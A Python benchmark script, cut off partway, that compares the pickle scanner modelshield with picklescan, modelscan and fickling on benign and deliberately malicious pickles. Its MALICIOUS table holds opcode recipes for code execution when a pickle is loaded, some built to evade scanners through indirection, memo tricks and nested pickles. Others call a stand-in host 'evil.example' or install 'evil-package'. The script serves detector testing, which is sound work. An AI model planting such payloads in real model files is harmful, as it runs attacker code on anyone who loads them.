#!/usr/bin/env python3
"""Benchmark modelshield against other pickle scanners (picklescan, modelscan, fickling).

Two modes:

* synthetic (default): write a directory of benign pickles (plain data, numpy arrays,
  scikit-learn estimators, joblib dumps; several protocols) and malicious pickles built from
  readable opcode recipes (never loaded), scan it with every available tool N times and report
  wall time, detections, false positives and files left unscanned;
* ``--corpus DIR``: scan a directory of real (benign) model files, e.g. the one built by
  ``shared/corpus/build_real_corpus.sh``, and report wall time, files each tool reports as
  dangerous (all false positives there), files skipped, modelshield's coverage by format and
  the peak memory of each tool.

The other tools are looked up in ``--tools-venv``/bin, else on ``PATH``; a missing tool is
reported as such and the benchmark still runs with the rest. See ``bench/README.md``.
"""

from __future__ import annotations

import argparse
import collections
import datetime
import json
import marshal
import os
import pickle
import platform
import re
import resource
import shutil
import statistics
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

# --------------------------------------------------------------------------- opcode helpers

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
MARK = b"("
STOP = b"."
POP = b"0"
NONE = b"N"
REDUCE = b"R"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_LIST = b"]"
EMPTY_DICT = b"}"
APPENDS = b"e"
OBJ = b"o"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"

CMD = "echo modelshield-bench > /dev/null"
PY_SRC = "import os; os.system('echo modelshield-bench > /dev/null')"


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0+): push ``module.name``."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+) from two short unicode strings."""
    return ustr(module) + ustr(name) + STACK_GLOBAL


def ustr(text: str) -> bytes:
    """SHORT_BINUNICODE for short strings, BINUNICODE otherwise."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def bstr(text: str) -> bytes:
    """BINUNICODE (protocol 1+)."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def str0(text: str) -> bytes:
    """STRING (protocol 0), quoted with repr."""
    return b"S" + repr(text).encode() + b"\n"


def binbytes(data: bytes) -> bytes:
    """BINBYTES (protocol 3+)."""
    return b"B" + struct.pack("<I", len(data)) + data


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def call1(fn: bytes, arg: bytes) -> bytes:
    """``fn(arg)`` with both already encoded as opcodes."""
    return fn + arg + TUPLE1 + REDUCE


def strlist(items: Sequence[str]) -> bytes:
    return EMPTY_LIST + MARK + b"".join(ustr(s) for s in items) + APPENDS


def _system_p0() -> bytes:
    return glob("os", "system") + MARK + str0(CMD) + TUPLE + REDUCE + STOP


MALICIOUS: dict[str, Callable[[], bytes]] = {
    # direct process execution
    "os_system_p0": _system_p0,
    "posix_system_p2": lambda: PROTO2 + call1(glob("posix", "system"), bstr(CMD)) + STOP,
    "nt_system_p2": lambda: PROTO2 + call1(glob("nt", "system"), bstr(CMD)) + STOP,
    "os_popen_p4": lambda: PROTO4 + call1(sglob("os", "popen"), ustr(CMD)) + STOP,
    "os_execvp_p4": lambda: (
        PROTO4
        + sglob("os", "execvp")
        + ustr("sh")
        + strlist(["sh", "-c", CMD])
        + TUPLE2
        + REDUCE
        + STOP
    ),
    "subprocess_popen_p4": lambda: (
        PROTO4 + call1(sglob("subprocess", "Popen"), strlist(["sh", "-c", CMD])) + STOP
    ),
    "subprocess_check_output_p2": lambda: (
        PROTO2 + call1(glob("subprocess", "check_output"), strlist(["sh", "-c", CMD])) + STOP
    ),
    "subprocess_getoutput_p3": lambda: (
        b"\x80\x03" + call1(glob("subprocess", "getoutput"), bstr(CMD)) + STOP
    ),
    "pty_spawn_p2": lambda: PROTO2 + call1(glob("pty", "spawn"), bstr("/bin/sh")) + STOP,
    "asyncio_subprocess_shell_p4": lambda: (
        PROTO4
        + sglob("asyncio", "run")
        + call1(sglob("asyncio", "create_subprocess_shell"), ustr(CMD))
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "pip_main_p2": lambda: (
        PROTO2 + call1(glob("pip", "main"), strlist(["install", "--quiet", "evil-package"])) + STOP
    ),
    # code evaluation
    "builtins_eval_p2": lambda: PROTO2 + call1(glob("builtins", "eval"), bstr(PY_SRC)) + STOP,
    "builtins_exec_p4": lambda: PROTO4 + call1(sglob("builtins", "exec"), ustr(PY_SRC)) + STOP,
    "py2_builtin_eval_p0": lambda: (
        glob("__builtin__", "eval") + MARK + str0(PY_SRC) + TUPLE + REDUCE + STOP
    ),
    "exec_compile_p2": lambda: (
        PROTO2
        + glob("builtins", "exec")
        + glob("builtins", "compile")
        + bstr(PY_SRC)
        + bstr("<x>")
        + bstr("exec")
        + TUPLE3
        + REDUCE
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "runpy_run_code_p2": lambda: (
        PROTO2 + glob("runpy", "_run_code") + bstr(PY_SRC) + EMPTY_DICT + TUPLE2 + REDUCE + STOP
    ),
    "timeit_p2": lambda: (
        PROTO2
        + glob("timeit", "timeit")
        + MARK
        + bstr(PY_SRC)
        + bstr("pass")
        + glob("time", "perf_counter")
        + b"K\x01"
        + TUPLE
        + REDUCE
        + STOP
    ),
    "cprofile_run_p2": lambda: PROTO2 + call1(glob("cProfile", "run"), bstr(PY_SRC)) + STOP,
    "numpy_runstring_p2": lambda: (
        PROTO2
        + glob("numpy.testing._private.utils", "runstring")
        + bstr(PY_SRC)
        + EMPTY_DICT
        + TUPLE2
        + REDUCE
        + STOP
    ),
    "marshal_function_p3": lambda: (
        b"\x80\x03"
        + glob("types", "FunctionType")
        + call1(glob("marshal", "loads"), binbytes(marshal.dumps(compile(PY_SRC, "<x>", "exec"))))
        + EMPTY_DICT
        + TUPLE2
        + REDUCE
        + EMPTY_TUPLE
        + REDUCE
        + STOP
    ),
    # indirection
    "getattr_import_p2": lambda: (
        PROTO2
        + glob("builtins", "getattr")
        + call1(glob("builtins", "__import__"), bstr("os"))
        + bstr("system")
        + TUPLE2
        + REDUCE
        + bstr(CMD)
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "import_module_getattr_p4": lambda: (
        PROTO4
        + sglob("builtins", "getattr")
        + call1(sglob("importlib", "import_module"), ustr("subprocess"))
        + ustr("check_call")
        + TUPLE2
        + REDUCE
        + strlist(["sh", "-c", CMD])
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "sys_modules_getitem_p2": lambda: (
        PROTO2
        + glob("builtins", "getattr")
        + glob("operator", "getitem")
        + glob("sys", "modules")
        + bstr("os")
        + TUPLE2
        + REDUCE
        + bstr("system")
        + TUPLE2
        + REDUCE
        + bstr(CMD)
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "operator_attrgetter_p2": lambda: (
        PROTO2
        + call1(glob("operator", "attrgetter"), bstr("system"))
        + call1(glob("builtins", "__import__"), bstr("os"))
        + TUPLE1
        + REDUCE
        + bstr(CMD)
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "functools_partial_p4": lambda: (
        PROTO4
        + sglob("functools", "partial")
        + sglob("os", "system")
        + ustr(CMD)
        + TUPLE2
        + REDUCE
        + EMPTY_TUPLE
        + REDUCE
        + STOP
    ),
    "code_interpreter_p2": lambda: (
        PROTO2
        + glob("builtins", "getattr")
        + glob("code", "InteractiveInterpreter")
        + EMPTY_TUPLE
        + REDUCE
        + bstr("runsource")
        + TUPLE2
        + REDUCE
        + bstr(PY_SRC)
        + TUPLE1
        + REDUCE
        + STOP
    ),
    # nested pickles
    "nested_pickle_loads_p4": lambda: (
        PROTO4 + call1(sglob("pickle", "loads"), binbytes(_system_p0())) + STOP
    ),
    "nested_cpickle_loads_p3": lambda: (
        b"\x80\x03"
        + call1(glob("_pickle", "loads"), binbytes(MALICIOUS["builtins_exec_p4"]()))
        + STOP
    ),
    # opcode tricks
    "memo_put_get_p2": lambda: (
        PROTO2
        + glob("os", "system")
        + put(1)
        + POP
        + NONE
        + POP
        + get(1)
        + bstr(CMD)
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "memo_stack_global_p4": lambda: (
        PROTO4
        + ustr("os")
        + MEMOIZE
        + ustr("system")
        + MEMOIZE
        + POP
        + POP
        + get(0)
        + get(1)
        + STACK_GLOBAL
        + ustr(CMD)
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "inst_opcode_p0": lambda: MARK + str0(CMD) + b"ios\nsystem\n" + STOP,
    "obj_opcode_p1": lambda: MARK + glob("os", "system") + bstr(CMD) + OBJ + STOP,
    "payload_then_garbage_p2": lambda: (
        PROTO2 + call1(glob("os", "system"), bstr(CMD)) + b"\xff\xfe not a pickle any more"
    ),
    "second_stacked_pickle_p2": lambda: (
        pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)
        + PROTO2
        + call1(glob("os", "system"), bstr(CMD))
        + STOP
    ),
    # other system access
    "ctypes_cdll_p2": lambda: PROTO2 + call1(glob("ctypes", "CDLL"), bstr("libevil.so")) + STOP,
    "socket_connect_p2": lambda: (
        PROTO2
        + glob("socket", "create_connection")
        + bstr("evil.example")
        + b"M\x5c\x11"
        + TUPLE2
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "shutil_rmtree_p2": lambda: (
        PROTO2 + call1(glob("shutil", "rmtree"), bstr("/tmp/modelshield-bench-victim")) + STOP
    ),
    "webbrowser_open_p4": lambda: (
        PROTO4 + call1(sglob("webbrowser", "open"), ustr("https://evil.example/")) + STOP
    ),
}


# --------------------------------------------------------------------------- benign samples


def _plain_objects() -> list[tuple[str, object]]:
    import datetime as dt
    import decimal
    import fractions

    recursive: list[object] = [1, 2]
    recursive.append(recursive)
    big = {f"layer{i}.weight": [float(j) / 7 for j in range(2000)] for i in range(12)}
    return [
        ("dict", {"lr": 0.001, "epochs": 10, "name": "resnet", "tags": ["a", "b"]}),
        ("nested", {"cfg": {"layers": [64, 128, 256], "act": None, "flag": True}}),
        ("unicode", {"text": "naïve café — 日本語 🙂", "b": b"\x00\x01\xff"}),
        ("numbers", [0, -1, 2**70, 3.5, complex(1, 2), float("inf")]),
        ("sets", {"s": {1, 2, 3}, "f": frozenset({"x", "y"}), "t": (1, (2, (3,)))}),
        ("collections", collections.OrderedDict(a=1, b=collections.Counter("hello"))),
        ("defaultdict", collections.defaultdict(list, {"k": [1, 2]})),
        ("datetime", {"t": dt.datetime(2024, 5, 1, 12, 0), "d": dt.date(2024, 1, 2)}),
        ("decimal", [decimal.Decimal("1.25"), fractions.Fraction(3, 7), bytearray(b"xy")]),
        ("recursive", recursive),
        ("medium_state", big),
    ]


def _numpy_objects() -> list[tuple[str, object]]:
    import numpy as np

    rng = np.random.default_rng(0)
    return [
        ("f32_vec", rng.standard_normal(1000).astype(np.float32)),
        ("i64_mat", rng.integers(0, 100, size=(64, 64))),
        ("f64_medium", rng.standard_normal((512, 512))),
        ("bool", rng.random(300) > 0.5),
        ("structured", np.zeros(10, dtype=[("x", "<f4"), ("y", "<i8"), ("name", "U8")])),
        ("scalars", {"a": np.float64(1.5), "b": np.int32(7), "c": np.dtype("float16")}),
        ("object_strings", np.array(["a", "bb", None], dtype=object)),
        ("state_dict", {f"w{i}": rng.standard_normal((32, 32)) for i in range(8)}),
        ("fortran", np.asfortranarray(rng.standard_normal((20, 30)))),
        ("complex", rng.standard_normal(50) + 1j * rng.standard_normal(50)),
        ("masked", np.ma.masked_array([1.0, 2.0, 3.0], mask=[False, True, False])),
        ("f16_big", rng.standard_normal((1024, 1024)).astype(np.float16)),
    ]


def _sklearn_objects() -> list[tuple[str, object]]:
    import numpy as np
    from sklearn.cluster import KMeans
    from sklearn.decomposition import PCA
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LinearRegression, LogisticRegression, Ridge
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import LabelEncoder, MinMaxScaler, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(1)
    x = rng.standard_normal((300, 8))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    docs = ["the cat sat", "the dog ran", "a cat and a dog", "models are code"] * 5
    return [
        ("logreg", LogisticRegression(max_iter=200).fit(x, y)),
        ("linreg", LinearRegression().fit(x, x[:, 0])),
        ("ridge", Ridge().fit(x, x[:, 1])),
        ("scaler", StandardScaler().fit(x)),
        ("minmax", MinMaxScaler().fit(x)),
        ("pca", PCA(n_components=3).fit(x)),
        ("kmeans", KMeans(n_clusters=3, n_init=2, random_state=0).fit(x)),
        ("tree", DecisionTreeClassifier(random_state=0).fit(x, y)),
        ("forest", RandomForestClassifier(n_estimators=25, random_state=0).fit(x, y)),
        ("gboost", GradientBoostingClassifier(n_estimators=10, random_state=0).fit(x, y)),
        ("pipeline", make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)),
        ("svc", SVC().fit(x, y)),
        ("knn", KNeighborsClassifier().fit(x, y)),
        ("labels", LabelEncoder().fit(["cat", "dog", "bird"])),
        ("tfidf", TfidfVectorizer().fit(docs)),
    ]


@dataclass
class Dataset:
    root: Path
    benign: list[str] = field(default_factory=list)
    malicious: list[str] = field(default_factory=list)
    skipped_kinds: list[str] = field(default_factory=list)


def generate(root: Path) -> Dataset:
    """Write benign and malicious samples under ``root`` (all named ``*.pkl``)."""
    ds = Dataset(root)
    (root / "benign").mkdir(parents=True, exist_ok=True)
    (root / "malicious").mkdir(parents=True, exist_ok=True)

    def write_benign(name: str, data: bytes) -> None:
        rel = f"benign/{name}.pkl"
        (root / rel).write_bytes(data)
        ds.benign.append(rel)

    for name, obj in _plain_objects():
        for proto in range(pickle.HIGHEST_PROTOCOL + 1):
            write_benign(f"plain_{name}_p{proto}", pickle.dumps(obj, protocol=proto))
    groups: list[tuple[str, Callable[[], list[tuple[str, object]]], Iterable[int]]] = [
        ("numpy", _numpy_objects, (2, 3, 4, 5)),
        ("sklearn", _sklearn_objects, (2, 4, 5)),
    ]
    for prefix, make, protocols in groups:
        try:
            objects = make()
        except ImportError as exc:
            ds.skipped_kinds.append(f"{prefix} ({exc.name} not installed)")
            continue
        for name, obj in objects:
            for proto in protocols:
                write_benign(f"{prefix}_{name}_p{proto}", pickle.dumps(obj, protocol=proto))
    try:
        import joblib

        for name, obj in _sklearn_objects()[7:10] + _numpy_objects()[2:3]:
            path = root / "benign" / f"joblib_{name}.pkl"
            joblib.dump(obj, path)
            ds.benign.append(path.relative_to(root).as_posix())
    except ImportError:
        ds.skipped_kinds.append("joblib (not installed)")

    for name, recipe in MALICIOUS.items():
        rel = f"malicious/{name}.pkl"
        (root / rel).write_bytes(recipe())
        ds.malicious.append(rel)
    return ds


# --------------------------------------------------------------------------- running tools


@dataclass
class Proc:
    wall_s: float
    rc: int
    stdout: str
    stderr: str
    maxrss_kb: int


_TIME = Path("/usr/bin/time")


def run_proc(
    cmd: Sequence[str],
    *,
    cwd: Path | None = None,
    timeout: float = 600,
    env: dict[str, str] | None = None,
) -> Proc:
    """Run ``cmd``, measuring wall time and its peak RSS (with its children).

    The peak RSS comes from ``/usr/bin/time -f %M`` when available: ``wait4`` on a child forked
    from this (large) process would report this process's RSS at fork as the child's peak.
    Without ``/usr/bin/time`` the ``wait4`` figure is used and may be too high.
    """
    with (
        tempfile.TemporaryFile() as out,
        tempfile.TemporaryFile() as err,
        tempfile.NamedTemporaryFile(suffix=".rss") as rss,
    ):
        full = list(cmd)
        if _TIME.exists():
            full = [str(_TIME), "-q", "-f", "%M", "-o", rss.name, *full]
        start = time.perf_counter()
        p = subprocess.Popen(
            full, cwd=cwd, env=env, stdout=out, stderr=err, stdin=subprocess.DEVNULL
        )
        try:
            rc = p.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            p.kill()
            rc = p.wait()
        wall = time.perf_counter() - start
        maxrss = 0
        try:
            maxrss = int(Path(rss.name).read_text().split()[-1])
        except (OSError, ValueError, IndexError):
            maxrss = int(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
        out.seek(0)
        err.seek(0)
        return Proc(
            wall,
            rc,
            out.read().decode("utf-8", "replace"),
            err.read().decode("utf-8", "replace"),
            maxrss,
        )


class Timed:
    """Median and best of the wall times in ``times`` (nan before any run)."""

    times: list[float]

    @property
    def median(self) -> float:
        return statistics.median(self.times) if self.times else float("nan")

    @property
    def best(self) -> float:
        return min(self.times) if self.times else float("nan")


@dataclass
class ToolResult(Timed):
    name: str
    available: bool = True
    note: str = ""
    times: list[float] = field(default_factory=list)
    maxrss_kb: int = 0
    flagged: set[str] = field(default_factory=set)
    """Files the tool reports as dangerous at its blocking level."""
    errored: set[str] = field(default_factory=set)
    unscanned: set[str] = field(default_factory=set)
    extra: dict[str, Any] = field(default_factory=dict)


def _norm(root: Path, raw: str) -> str:
    """A tool's path for a file as a POSIX path relative to ``root``."""
    raw = raw.strip()
    p = Path(raw)
    if p.is_absolute():
        try:
            return p.resolve().relative_to(root.resolve()).as_posix()
        except ValueError:
            return raw
    if (root / p).exists():
        return p.as_posix()
    if len(p.parts) > 1 and (root / Path(*p.parts[1:])).exists():
        return Path(*p.parts[1:]).as_posix()
    return p.as_posix()


def all_files(root: Path) -> list[str]:
    return sorted(
        p.relative_to(root).as_posix()
        for p in root.rglob("*")
        if p.is_file() and not p.is_symlink()
    )


def find_tool(name: str, venv: Path | None) -> str | None:
    if venv is not None:
        cand = venv / "bin" / name
        if cand.exists():
            return str(cand)
        return None
    return shutil.which(name)


@dataclass
class Tool:
    """One tool under test: ``once()`` does one timed run; ``finish()`` parses the last one."""

    result: ToolResult
    once: Callable[[], None]
    finish: Callable[[], None]


def _subprocess_tool(
    result: ToolResult,
    cmd: Sequence[str],
    parse: Callable[[Proc], None],
    timeout: float,
    env: dict[str, str],
) -> Tool:
    last: list[Proc] = []

    def once() -> None:
        proc = run_proc(cmd, timeout=timeout, env=env)
        result.times.append(proc.wall_s)
        result.maxrss_kb = max(result.maxrss_kb, proc.maxrss_kb)
        last[:] = [proc]

    def finish() -> None:
        if last:
            parse(last[0])

    return Tool(result, once, finish)


def modelshield_api_tool(root: Path, jobs: int) -> Tool:
    import modelshield
    from modelshield.findings import ScanResult, Severity

    res = ToolResult(f"modelshield API (jobs={jobs})")
    last: list[ScanResult] = []

    def once() -> None:
        if res.note:
            return
        start = time.perf_counter()
        try:
            last[:] = [modelshield.scan(root, jobs=jobs)]
        except Exception as exc:
            res.note = f"{type(exc).__name__}: {exc}"
            return
        res.times.append(time.perf_counter() - start)

    def finish() -> None:
        if res.note:
            res.times.clear()
        if not last:
            return
        scan_result = last[0]
        for f in scan_result.at_or_above(Severity.HIGH):
            res.flagged.add(_norm(root, f.location.path))
        for c in scan_result.coverage:
            if c.status.value in ("skipped", "inconclusive"):
                res.unscanned.add(_norm(root, c.path))
        for e in scan_result.errors:
            res.errored.add(_norm(root, e.path))

    return Tool(res, once, finish)


def modelshield_cmd() -> list[str]:
    exe = Path(sys.executable).parent / "modelshield"
    if exe.exists():
        return [str(exe)]
    found = shutil.which("modelshield")
    if found:
        return [found]
    return [sys.executable, "-c", "import sys; from modelshield.cli import main; sys.exit(main())"]


def modelshield_cli_tool(
    root: Path, jobs: int, timeout: float, env: dict[str, str], tmp: Path
) -> Tool:
    res = ToolResult(f"modelshield CLI (-j {jobs})")
    report = tmp / f"modelshield-j{jobs}.json"
    cmd = [*modelshield_cmd(), "scan", str(root), "-f", "json", "-o", str(report)]
    cmd += ["-q", "--no-config", "-j", str(jobs)]

    def parse(proc: Proc) -> None:
        if proc.rc not in (0, 1, 3) or not report.exists():
            res.note = f"exit {proc.rc}: {proc.stderr.strip()[-300:]}"
            res.times.clear()
            return
        data = json.loads(report.read_text("utf-8"))
        res.extra["exit_code"] = proc.rc
        by_rule: collections.Counter[str] = collections.Counter()
        for f in data["findings"]:
            by_rule[f"{f['rule_id']}/{f['severity']}"] += 1
            if f["at_or_above_threshold"]:
                res.flagged.add(_norm(root, f["location"]["path"]))
        res.extra["findings_by_rule"] = dict(sorted(by_rule.items()))
        cov: collections.Counter[str] = collections.Counter()
        for c in data["coverage"]:
            cov[f"{c['format']}:{c['status']}"] += 1
            if c["status"] in ("skipped", "inconclusive"):
                res.unscanned.add(_norm(root, c["path"]))
        res.extra["coverage"] = dict(sorted(cov.items()))
        for e in data["errors"]:
            res.errored.add(_norm(root, e["path"]))

    return _subprocess_tool(res, cmd, parse, timeout, env)


_PICKLESCAN_FOUND = re.compile(
    r"^(?P<path>.+): (?P<level>dangerous|suspicious) import '(?P<g>[^']*)' FOUND"
)
_PICKLESCAN_ERR = re.compile(
    r"^(?:ERROR: parsing pickle in (?P<a>.+?): |WARNING: could not parse (?P<b>.+?) as pickle)"
)
_PICKLESCAN_DEBUG = re.compile(r"scan_pickle_bytes\((?P<path>.+)\)$")


def picklescan_tool(root: Path, exe: str, timeout: float, env: dict[str, str]) -> Tool:
    res = ToolResult("picklescan")

    def parse(proc: Proc) -> None:
        lines = (proc.stdout + "\n" + proc.stderr).splitlines()
        for line in lines:
            if m := _PICKLESCAN_FOUND.match(line):
                res.flagged.add(_norm(root, m["path"]))
            elif m := _PICKLESCAN_ERR.match(line):
                res.errored.add(_norm(root, m["a"] or m["b"]))
        res.extra["exit_code"] = proc.rc
        prefixes = ("Scanned", "Infected", "Dangerous", "Suspicious")
        res.extra["summary"] = [ln for ln in lines if ln.startswith(prefixes)]
        # Which files picklescan opened at all: one more, untimed, run with debug logging.
        dbg = run_proc([exe, "--path", str(root), "-l", "DEBUG"], timeout=timeout, env=env)
        seen = set()
        for line in (dbg.stdout + "\n" + dbg.stderr).splitlines():
            if m := _PICKLESCAN_DEBUG.search(line):
                seen.add(_norm(root, m["path"].split(":", 1)[0]))
        if seen:
            res.unscanned = {f for f in all_files(root) if f not in seen}

    return _subprocess_tool(res, [exe, "--path", str(root)], parse, timeout, env)


def modelscan_tool(root: Path, exe: str, timeout: float, env: dict[str, str], tmp: Path) -> Tool:
    res = ToolResult("modelscan")
    report = tmp / "modelscan.json"
    cmd = [exe, "scan", "-p", str(root), "-r", "json", "-o", str(report), "--show-skipped"]

    def parse(proc: Proc) -> None:
        if not report.exists():
            res.note = f"no report (exit {proc.rc}): {(proc.stderr or proc.stdout).strip()[-300:]}"
            res.times.clear()
            return
        data = json.loads(report.read_text("utf-8"))
        res.extra["exit_code"] = proc.rc
        sev: collections.Counter[str] = collections.Counter()
        for issue in data.get("issues", []):
            res.flagged.add(_norm(root, _modelscan_source(issue["source"])))
            sev[issue.get("severity", "?")] += 1
        res.extra["issues_by_severity"] = dict(sev)
        for err in data.get("errors", []):
            if "source" in err:
                res.errored.add(_norm(root, _modelscan_source(err["source"])))
        skipped = data.get("summary", {}).get("skipped", {}).get("skipped_files", [])
        for s in skipped:
            res.unscanned.add(_norm(root, _modelscan_source(s["source"])))
        cats = collections.Counter(s.get("category", "?") for s in skipped)
        res.extra["skipped_categories"] = dict(cats)

    return _subprocess_tool(res, cmd, parse, timeout, env)


def _modelscan_source(src: str) -> str:
    # zip members are reported as "archive.zip:member"
    return src.split(":", 1)[0]


_FICKLING_RUNNER = r"""
import json, os, sys, zipfile
import fickling
from fickling.analysis import Severity
root = sys.argv[1]
out = []
for dirpath, dirnames, filenames in os.walk(root):
    dirnames.sort()
    for name in sorted(filenames):
        path = os.path.join(dirpath, name)
        rec = {"path": path}
        try:
            if zipfile.is_zipfile(path):
                members = fickling.scan_zip_archive(path, graceful=True)
                results = list(members.values())
                rec["zip_members"] = len(members)
            else:
                results = [fickling.scan_file(path, graceful=True)]
            sev = max((r.severity for r in results), key=lambda s: s.value[0],
                      default=Severity.LIKELY_SAFE)
            rec["severity"] = sev.name
            rec["errors"] = [e for r in results for e in r.errors]
        except Exception as exc:
            rec["exception"] = f"{type(exc).__name__}: {exc}"
        out.append(rec)
json.dump(out, sys.stdout)
"""


def fickling_tool(root: Path, python: str, timeout: float, env: dict[str, str]) -> Tool:
    res = ToolResult("fickling (API, one process)")

    def parse(proc: Proc) -> None:
        try:
            records = json.loads(proc.stdout)
        except json.JSONDecodeError:
            res.note = f"runner failed (exit {proc.rc}): {proc.stderr.strip()[-300:]}"
            res.times.clear()
            return
        sev: collections.Counter[str] = collections.Counter()
        for rec in records:
            path = _norm(root, rec["path"])
            if "exception" in rec:
                res.errored.add(path)
                continue
            sev[rec["severity"]] += 1
            if rec["errors"]:
                res.errored.add(path)
            if rec["severity"] != "LIKELY_SAFE":
                res.flagged.add(path)
            if rec.get("zip_members") == 0:
                res.unscanned.add(path)
        res.extra["severity_counts"] = dict(sev)

    cmd = [python, "-c", _FICKLING_RUNNER, str(root)]
    return _subprocess_tool(res, cmd, parse, timeout, env)


def fickling_cli_tool(root: Path, exe: str, timeout: float, env: dict[str, str], tmp: Path) -> Tool:
    """``fickling --check-safety FILE`` once per file (what a shell loop or CI step does)."""
    res = ToolResult("fickling CLI (per file)")
    files = all_files(root)
    js = tmp / "fickling.json"

    def once() -> None:
        flagged: set[str] = set()
        errored: set[str] = set()
        start = time.perf_counter()
        for rel in files:
            cmd = [exe, "--check-safety", "--json-output", str(js), str(root / rel)]
            proc = run_proc(cmd, timeout=timeout, env=env)
            res.maxrss_kb = max(res.maxrss_kb, proc.maxrss_kb)
            js.unlink(missing_ok=True)
            if proc.rc == 1:
                flagged.add(rel)
            elif proc.rc != 0:
                errored.add(rel)
        res.times.append(time.perf_counter() - start)
        res.flagged, res.errored = flagged, errored

    return Tool(res, once, lambda: None)


# --------------------------------------------------------------------------- reporting


def _fmt_ratio(t: float, ref: float) -> str:
    if not (ref > 0 and t > 0):
        return "-"
    if t == ref:
        return "reference"
    r = t / ref
    return f"{r:.1f}x slower" if r >= 1 else f"{1 / r:.1f}x faster"


def _status_row(r: ToolResult) -> str | None:
    """The table row of a tool that did not run (not installed, or every run failed)."""
    if not r.available:
        return f"| {r.name} | not installed | | | | | | |"
    if r.note and not r.times:
        return f"| {r.name} | failed: {r.note} | | | | | | |"
    return None


def table_synthetic(results: list[ToolResult], ds: Dataset, ref: float) -> str:
    mal, ben = set(ds.malicious), set(ds.benign)
    head = (
        f"| tool | median wall (s) | best (s) | vs modelshield CLI | malicious detected "
        f"(of {len(mal)}) | benign flagged (of {len(ben)}) | unscanned / errored | peak RSS (MiB) |"
    )
    rows = [head, "|" + "---|" * 8]
    for r in results:
        status = _status_row(r)
        if status:
            rows.append(status)
            continue
        rss = f"{r.maxrss_kb / 1024:.0f}" if r.maxrss_kb else "-"
        rows.append(
            f"| {r.name} | {r.median:.3f} | {r.best:.3f} | {_fmt_ratio(r.median, ref)} "
            f"| {len(r.flagged & mal)} | {len(r.flagged & ben)} "
            f"| {len(r.unscanned)} / {len(r.errored)} | {rss} |"
        )
    return "\n".join(rows)


def table_corpus(results: list[ToolResult], n_files: int, ref: float) -> str:
    head = (
        f"| tool | median wall (s) | best (s) | vs modelshield CLI | files reported dangerous "
        f"(of {n_files}, all false positives) | skipped / unscanned | errored | peak RSS (MiB) |"
    )
    rows = [head, "|" + "---|" * 8]
    for r in results:
        status = _status_row(r)
        if status:
            rows.append(status)
            continue
        rss = f"{r.maxrss_kb / 1024:.0f}" if r.maxrss_kb else "-"
        rows.append(
            f"| {r.name} | {r.median:.3f} | {r.best:.3f} | {_fmt_ratio(r.median, ref)} "
            f"| {len(r.flagged)} | {len(r.unscanned)} | {len(r.errored)} | {rss} |"
        )
    return "\n".join(rows)


def _as_json(r: ToolResult) -> dict[str, Any]:
    return {
        "name": r.name,
        "available": r.available,
        "note": r.note,
        "times_s": r.times,
        "median_s": r.median if r.times else None,
        "best_s": r.best if r.times else None,
        "maxrss_kb": r.maxrss_kb,
        "flagged": sorted(r.flagged),
        "errored": sorted(r.errored),
        "unscanned": sorted(r.unscanned),
        "extra": r.extra,
    }


# --------------------------------------------------------------------------- main


def tool_env(pycache: Path) -> dict[str, str]:
    """Environment for every tool: byte-code caching on, in a private cache for all tools.

    With ``PYTHONDONTWRITEBYTECODE`` set (as in some CI images) an editable install recompiles
    its sources on every start while pip-installed tools have their ``.pyc``; a shared private
    ``PYTHONPYCACHEPREFIX`` plus one untimed warm-up run puts every tool on the same footing.
    """
    env = dict(os.environ)
    env.pop("PYTHONDONTWRITEBYTECODE", None)
    env["PYTHONPYCACHEPREFIX"] = str(pycache)
    return env


def run_tools(root: Path, args: argparse.Namespace, tmp: Path) -> list[ToolResult]:
    venv = Path(args.tools_venv) if args.tools_venv else None
    timeout: float = args.timeout
    env = tool_env(tmp / "pycache")
    tools: list[Tool] = [modelshield_cli_tool(root, args.jobs, timeout, env, tmp)]
    if args.jobs != 1:
        tools.append(modelshield_cli_tool(root, 1, timeout, env, tmp))
    tools.append(modelshield_api_tool(root, args.jobs))
    if args.jobs != 1:
        tools.append(modelshield_api_tool(root, 1))
    missing: list[ToolResult] = []
    if exe := find_tool("picklescan", venv):
        tools.append(picklescan_tool(root, exe, timeout, env))
    else:
        missing.append(ToolResult("picklescan", available=False))
    if exe := find_tool("modelscan", venv):
        tools.append(modelscan_tool(root, exe, timeout, env, tmp))
    else:
        missing.append(ToolResult("modelscan", available=False))
    if exe := find_tool("fickling", venv):
        python = Path(exe).parent / "python"
        tools.append(
            fickling_tool(root, str(python) if python.exists() else sys.executable, timeout, env)
        )
        if args.fickling_cli:
            tools.append(fickling_cli_tool(root, exe, timeout, env, tmp))
    else:
        missing.append(ToolResult("fickling", available=False))

